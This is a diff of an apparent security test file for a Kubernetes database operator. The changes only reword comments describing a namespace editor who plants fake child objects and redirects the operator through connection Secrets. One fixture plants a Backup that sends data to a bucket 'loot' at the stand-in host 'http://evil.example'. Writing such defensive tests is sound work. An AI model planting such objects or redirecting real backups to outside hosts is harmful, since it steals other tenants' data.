@@ -1,5 +1,5 @@
-// Attempts of an editor of one namespace: he plants objects there that pass for children of the victim's resources, changes children of
-// his own, and leads the operator where he likes by connection Secrets.
+// Attempts of an editor of one namespace. The editor plants objects that imitate children of the victim's resources,
+// changes its own children, and redirects the operator by connection Secrets.
 
 import { expect } from 'vitest'
 import { workerOrderIn } from '../../../src/controllers/migration/worker-order.ts'
@@ -16,7 +16,7 @@ const attempt = (does: string, act: Act, outcome: Outcome): Attempt => ({ attack
 const isNoChild = 'The operator does not accept it as a child; the victim’s resources do not change.'
 const apart = harmless(isNoChild)
 
-/** Also what he has planted stays: the operator prunes no child of a resource in another namespace. */
+/** The planted object stays: the operator does not prune it as a child of a resource in another namespace. */
 const staysApart = (kind: string, name: string, reasons: readonly string[] = []) =>
   harmless(isNoChild, {
     reasons,
@@ -40,11 +40,11 @@ const marks = (stage: AdversaryStage, kind: string, name: string) => ({
 
 interface Plant {
   readonly kind: string
-  /** By default the name of the victim's own child. */
+  /** Default: the name of the victim's own child. */
   readonly name: string
   readonly of: readonly [kind: string, name: string, plural: string]
   readonly parts?: object
-  /** As of an Outcome, where it is a resource of the operator's. */
+  /** As in Outcome, if the object is a resource of the operator. */
   readonly reasons?: readonly string[]
 }
 
@@ -126,7 +126,7 @@ const plants: readonly Plant[] = [
     kind: 'bak',
     name: 'nightly-planted',
     of: ['Backup', 'nightly', 'backups'],
-    // In the attacker's namespace there is no Database of that name.
+    // The attacker's namespace has no Database of that name.
     reasons: ['DatabaseMissing'],
     parts: {
       spec: { databaseRef: { name: 'orders' }, target: { s3: { bucket: 'loot', endpoint: 'http://evil.example' } } },
@@ -178,7 +178,7 @@ function planting({
   ]
 }
 
-/** Planted before the victim makes the resource whose child it would be. */
+/** Planted before the victim creates the resource that would be the parent. */
 const early: readonly Attempt[] = [
   attempt(
     'plants the Secret of a DatabaseUser that the victim creates later',
